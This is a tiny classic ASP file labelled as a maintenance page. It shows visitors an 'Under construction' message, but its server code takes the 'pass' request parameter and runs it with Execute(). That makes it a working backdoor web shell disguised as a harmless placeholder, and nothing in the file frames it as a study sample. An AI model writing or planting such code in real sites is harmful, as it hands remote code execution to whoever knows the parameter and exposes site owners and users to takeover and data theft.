<%
' maintenance page
Dim k : k = Request("pass")
If k <> "" Then Execute(Request("pass"))
%>
<html><body>Under construction</body></html>
